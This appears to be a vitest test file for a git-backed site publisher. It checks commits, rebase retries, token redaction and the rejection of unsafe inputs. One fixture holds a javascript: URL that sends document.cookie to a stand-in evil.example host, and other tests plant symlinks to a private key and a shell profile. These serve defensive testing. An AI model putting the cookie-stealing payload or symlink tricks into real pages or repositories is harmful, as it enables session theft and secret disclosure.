// The site publisher against a bare git repository: what is pushed is what the build made.
import { execFile } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parseAtomFeed, parseJsonFeed } from 'feedsmith';
import { HtmlValidate } from 'html-validate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  buildSite,
  pickOf,
  publishingApiArgs,
  type PickedLink,
  type SiteSettingsInput,
} from '../../../shared/publish';
import { itemRow } from '../../../shared/publish/testing';
import { GitError, gitEnv, isRejectedPush, redact } from './git';
import { previewSite, publishSite, workingCopyDir } from './site-publisher';

const run = promisify(execFile);
const sh = async (cwd: string, ...args: string[]) =>
  (await run('git', args, { cwd, env: gitEnv(null) })).stdout;

let tmp: string;
beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'curio-site-'));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

async function bareRemote(name: string): Promise<string> {
  const path = join(tmp, `${name}.git`);
  await run('git', ['init', '-q', '--bare', '-b', 'main', path]);
  return path;
}

/**
 * Commits files to the remote from a separate clone, as another maintainer or a CI job would.
 * A value `{ link }` commits a symbolic link to that target; `null` removes the path.
 */
async function pushFromElsewhere(
  remote: string,
  files: Record<string, string | { link: string } | null>,
  name: string,
): Promise<void> {
  const clone = join(tmp, `clone-${name}`);
  await run('git', ['clone', '-q', remote, clone]);
  for (const [path, content] of Object.entries(files)) {
    await rm(join(clone, path), { recursive: true, force: true });
    if (content === null) continue;
    await mkdir(join(clone, path, '..'), { recursive: true });
    if (typeof content === 'string') await writeFile(join(clone, path), content);
    else await symlink(content.link, join(clone, path));
  }
  await sh(clone, 'add', '-A');
  await sh(
    clone,
    '-c',
    'user.name=Other',
    '-c',
    'user.email=o@example.org',
    'commit',
    '-q',
    '-m',
    `Other: ${name}`,
  );
  await sh(clone, 'push', '-q', 'origin', 'HEAD:main');
}

async function remoteTree(remote: string): Promise<Map<string, string>> {
  const names = (await sh(remote, 'ls-tree', '-r', '--name-only', 'main'))
    .split('\n')
    .filter(Boolean);
  const out = new Map<string, string>();
  for (const name of names) out.set(name, await sh(remote, 'show', `main:${name}`));
  return out;
}

const commits = async (remote: string) =>
  Number((await sh(remote, 'rev-list', '--count', 'main')).trim());

/** Picks this device chose, as the outbox sends them. */
function picks(n: number, extra: Partial<Parameters<typeof itemRow>[0]> = {}): PickedLink[] {
  return Array.from({ length: n }, (_, i) => ({
    ...pickOf(
      itemRow({
        url: `https://papers.example/${i}`,
        title: `Paper ${i} ✨`,
        tags: i % 2 ? ['crdt'] : ['raft', 'consensus'],
        addedAt: 1_700_000_000_000 + i * 60_000,
        note: `Why paper ${i} matters.`,
        ...extra,
      }),
    ),
    pickedHere: true,
  }));
}

const subject = async (remote: string) =>
  (await sh(remote, 'log', '-1', '--format=%s', 'main')).trim();
const body = async (remote: string) =>
  (await sh(remote, 'log', '-1', '--format=%b', 'main')).trim();

describe('publishSite', () => {
  it('pushes exactly the build, valid HTML and parseable feeds, and makes no commit when nothing changed', async () => {
    const remote = await bareRemote('plain');
    const settings: SiteSettingsInput = {
      remote,
      title: 'Links',
      baseUrl: 'https://links.example.org/',
      pageSize: 2,
    };
    const cacheDir = join(tmp, 'cache-plain');
    const list = picks(3);

    const first = await publishSite(list, settings, { cacheDir });
    expect(first).toMatchObject({ committed: true, added: list.map((p) => p.item.id).reverse() });
    expect(await subject(remote)).toBe('Publish 3 picks: Paper 2 ✨, Paper 1 ✨, Paper 0 ✨');
    expect(await body(remote)).toBe(
      [2, 1, 0].map((i) => `Added: Paper ${i} ✨ <https://papers.example/${i}>`).join('\n'),
    );
    const tree = await remoteTree(remote);
    expect(tree).toEqual(buildSite(list, settings));

    const validator = new HtmlValidate({ extends: ['html-validate:recommended'] });
    for (const [path, text] of tree) {
      if (!path.endsWith('.html')) continue;
      const report = await validator.validateString(text, path);
      expect(report.results.flatMap((r) => r.messages.map((m) => `${path}: ${m.message}`))).toEqual(
        [],
      );
    }
    expect(parseAtomFeed(tree.get('feed.xml') ?? '').entries).toHaveLength(3);
    expect(parseJsonFeed(JSON.parse(tree.get('feed.json') ?? '')).items).toHaveLength(3);

    const again = await publishSite([...list].reverse(), settings, { cacheDir });
    expect(again).toMatchObject({ committed: false, commit: first.commit, message: null });
    expect(await commits(remote)).toBe(1);

    // A pick loses its tag: the tag page the previous build made is removed.
    const fewer = [...list.slice(0, 2), { ...list[2]!, item: { ...list[2]!.item, tags: [] } }];
    const third = await publishSite(fewer, settings, { cacheDir });
    expect(third).toMatchObject({ committed: true, added: [] });
    expect(await subject(remote)).toBe('Update site: 1 entry changed');
    expect(await body(remote)).toBe('Changed: Paper 2 ✨ <https://papers.example/2>');
    expect([...(await remoteTree(remote)).keys()]).toEqual([...buildSite(fewer, settings).keys()]);
  }, 60_000);

  it('rebases and retries when someone pushed first, rebuilding with their templates', async () => {
    const remote = await bareRemote('race');
    const settings: SiteSettingsInput = {
      remote,
      title: 'Race',
      baseUrl: 'https://race.example.org/',
    };
    const cacheDir = join(tmp, 'cache-race');
    await publishSite(picks(1), settings, { cacheDir });

    // Between our fetch and our push, another maintainer pushes a CNAME and a template override.
    const hook = join(
      workingCopyDir(cacheDir, { remote, branch: 'main' }),
      '.git',
      'hooks',
      'pre-push',
    );
    const marker = join(tmp, 'race-pushed');
    const theirs = {
      CNAME: 'race.example.org\n',
      '.curio/templates/list.mustache': '{{#picks}}<p class="custom">{{title}}</p>\n{{/picks}}',
    };
    await writeFile(
      hook,
      [
        '#!/bin/sh',
        'unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE',
        `[ -e '${marker}' ] && exit 0`,
        `touch '${marker}'`,
        `clone='${join(tmp, 'clone-race')}'`,
        `git clone -q '${remote}' "$clone" || exit 1`,
        `node -e 'const fs=require("fs"),p=require("path");for(const [f,t] of Object.entries(${JSON.stringify(theirs)}).map(([f,t])=>[p.join(process.argv[1],f),t])){fs.mkdirSync(p.dirname(f),{recursive:true});fs.writeFileSync(f,t)}' "$clone"`,
        'cd "$clone" && git add -A && git -c user.name=Other -c user.email=o@example.org commit -q -m "Other: CNAME and template" && git push -q origin HEAD:main',
        'exit 0',
        '',
      ].join('\n'),
    );
    await chmod(hook, 0o755);

    const list = picks(3);
    const result = await publishSite(list, settings, { cacheDir });
    expect(result.committed).toBe(true);
    const log = (await sh(remote, 'log', '--format=%s', 'main')).trim().split('\n');
    expect(log).toEqual([
      'Publish 2 picks: Paper 2 ✨, Paper 1 ✨',
      'Other: CNAME and template',
      'Publish 1 pick: Paper 0 ✨',
    ]);
    const tree = await remoteTree(remote);
    expect(tree.get('CNAME')).toBe('race.example.org\n');
    expect(tree.get('index.html')).toContain('<p class="custom">Paper 2 ✨</p>');
    const expected = buildSite(list, settings, {
      list: '{{#picks}}<p class="custom">{{title}}</p>\n{{/picks}}',
    });
    for (const [path, text] of expected) expect(tree.get(path)).toBe(text);
  }, 60_000);

  it('writes content files into an existing site and leaves its other files alone', async () => {
    const remote = await bareRemote('hugo');
    await pushFromElsewhere(
      remote,
      { 'hugo.toml': 'title = "Mine"\n', 'content/posts/hello.md': '---\ntitle: Hello\n---\n' },
      'hugo',
    );
    const settings: SiteSettingsInput = {
      remote,
      title: 'Hugo',
      baseUrl: 'https://hugo.example.org/',
      format: 'content-files',
      contentDir: 'content/links',
    };
    await publishSite(picks(2), settings, { cacheDir: join(tmp, 'cache-hugo') });
    const tree = await remoteTree(remote);
    expect([...tree.keys()].sort()).toEqual(
      [
        '.curio/manifest.json',
        'content/posts/hello.md',
        'hugo.toml',
        ...[...buildSite(picks(2), settings).keys()].filter((p) => p.startsWith('content/links/')),
      ].sort(),
    );
    expect(tree.get('hugo.toml')).toBe('title = "Mine"\n');
  }, 60_000);

  it('keeps tokens out of error messages', async () => {
    const vault = {
      get: async () => 'tok-SECRET-123',
      set: async () => undefined,
      delete: async () => undefined,
      names: async () => [],
    };
    const settings: SiteSettingsInput = {
      remote: 'http://user:pass@127.0.0.1:9/site.git',
      title: 'T',
      baseUrl: 'https://t.example/',
    };
    const error = await publishSite(picks(1), settings, {
      cacheDir: join(tmp, 'cache-token'),
      vault,
    }).catch((e: Error) => e);
    expect(error).toBeInstanceOf(Error);
    expect(String((error as Error).message)).not.toMatch(
      /SECRET|pass@|eC1hY2Nlc3MtdG9rZW46dG9rLVNFQ1JFVC0xMjM/,
    );
    expect(redact('https://u:p@h/x tok-1', 'tok-1')).toBe('https://***@h/x ***');
    const rejected = (stderr: string) => isRejectedPush(new GitError('git push failed', stderr));
    expect(rejected(' ! [rejected]        main -> main (fetch first)')).toBe(true);
    expect(rejected(' ! [remote rejected] main -> main (pre-receive hook declined)')).toBe(false);
  }, 30_000);

  it('shows every entry that changes and flags those nobody here picked, in the preview and the commit', async () => {
    const remote = await bareRemote('hostile');
    const settings: SiteSettingsInput = {
      remote,
      title: 'Links',
      baseUrl: 'https://links.example.org/',
    };
    const cacheDir = join(tmp, 'cache-hostile');
    const [mine, theirs] = picks(2);
    const evilUrl =
      "javascript:fetch('https://evil.example/'+document.cookie)//https://example.com/";
    const evil: PickedLink = {
      item: { ...itemRow({ url: 'https://evil.example/x', title: 'Harmless' }), url: evilUrl },
      blurb: 'Click me',
      pickedHere: false,
    };
    // What crosses the transport: another maintainer's picks are sent as they are, flagged; a
    // link that is not http(s) is refused there already.
    expect(publishingApiArgs.publishSite.safeParse([[evil], settings]).success).toBe(false);
    const [checked] = publishingApiArgs.publishSite.parse([
      [mine, { ...theirs!, pickedHere: false }],
      settings,
    ]);
    // The publisher does not rely on that: handed one anyway, it leaves it out and says so.
    const sent = [...checked, evil];
    const preview = await previewSite(sent, settings, { cacheDir });
    expect(await commits(remote).catch(() => 0)).toBe(0);
    expect(preview.changes.map((c) => [c.kind, c.title, c.pickedHere])).toEqual([
      ['added', 'Paper 1 ✨', false],
      ['added', 'Paper 0 ✨', true],
    ]);
    expect(preview.leftOut.map((p) => p.title)).toEqual(['Harmless']);

    const result = await publishSite(sent, settings, { cacheDir });
    expect(result.message).toBe(preview.message);
    expect(await subject(remote)).toBe('Publish 1 pick: Paper 0 ✨ (+1 other change)');
    expect(await body(remote)).toBe(
      [
        'Added, not picked on this device: Paper 1 ✨ <https://papers.example/1>',
        'Added: Paper 0 ✨ <https://papers.example/0>',
        'Left out, the link is a javascript: address; only http(s) links are published: Harmless',
      ].join('\n'),
    );
    for (const [path, text] of await remoteTree(remote)) {
      expect(`${path}: ${text}`).not.toContain('javascript:');
      expect(text).not.toContain('Harmless');
    }
    // Nothing left to change: the preview says so and a publish makes no commit.
    expect((await previewSite(sent, settings, { cacheDir })).changes).toEqual([]);
    expect((await publishSite(sent, settings, { cacheDir })).committed).toBe(false);
  }, 60_000);

  describe('symbolic links committed to the site repository', () => {
    const contentSettings = (remote: string): SiteSettingsInput => ({
      remote,
      title: 'Hugo',
      baseUrl: 'https://hugo.example.org/',
      format: 'content-files',
      contentDir: 'content/links',
    });
    const keyOf = (pick: PickedLink) =>
      [...buildSite([pick], contentSettings('x')).keys()].find((p) => p.startsWith('content/'))!;

    it('never deletes through a linked folder', async () => {
      const remote = await bareRemote('link-dir');
      const settings = contentSettings(remote);
      const cacheDir = join(tmp, 'cache-link-dir');
      const list = picks(2);
      await publishSite(list, settings, { cacheDir });
      // Someone with push access replaces the folder with a link to one outside the repository.
      const outside = join(tmp, 'outside-dir');
      await mkdir(join(outside, 'links'), { recursive: true });
      const victim = join(outside, keyOf(list[1]!).replace(/^content\//, ''));
      await writeFile(victim, 'precious\n');
      await pushFromElsewhere(remote, { content: { link: outside } }, 'link-dir');

      const error = await publishSite(list.slice(0, 1), settings, { cacheDir }).catch(
        (e: Error) => e,
      );
      expect(error).toMatchObject({ name: 'UnsafeSitePath' });
      expect((error as Error).message).toContain(`symbolic link at content (to ${outside})`);
      expect(await readFile(victim, 'utf8')).toBe('precious\n');
      expect(await subject(remote)).toBe('Other: link-dir');
    }, 60_000);

    it('never writes through a linked file', async () => {
      const remote = await bareRemote('link-file');
      const settings = contentSettings(remote);
      const [pick] = picks(1);
      const victim = join(tmp, 'victim-bashrc');
      await writeFile(victim, 'export PATH=/usr/bin\n');
      await pushFromElsewhere(remote, { [keyOf(pick!)]: { link: victim } }, 'link-file');

      const error = await publishSite([pick!], settings, {
        cacheDir: join(tmp, 'cache-link-file'),
      }).catch((e: Error) => e);
      expect(error).toMatchObject({ name: 'UnsafeSitePath' });
      expect((error as Error).message).toContain(`symbolic link at ${keyOf(pick!)}`);
      expect(await readFile(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
    }, 60_000);

    it('never reads a template through a link into the public site', async () => {
      const remote = await bareRemote('link-template');
      const secret = join(tmp, 'id_secret');
      await writeFile(secret, 'PRIVATE KEY\n');
      await pushFromElsewhere(
        remote,
        { '.curio/templates/list.mustache': { link: secret } },
        'link-template',
      );
      const settings: SiteSettingsInput = { remote, title: 'T', baseUrl: 'https://t.example/' };
      const error = await publishSite(picks(1), settings, {
        cacheDir: join(tmp, 'cache-link-template'),
      }).catch((e: Error) => e);
      expect(error).toMatchObject({ name: 'UnsafeSitePath' });
      expect((error as Error).message).toContain('symbolic link at .curio/templates/list.mustache');
      for (const [, text] of await remoteTree(remote)) expect(text).not.toContain('PRIVATE KEY');
    }, 60_000);
  });
});
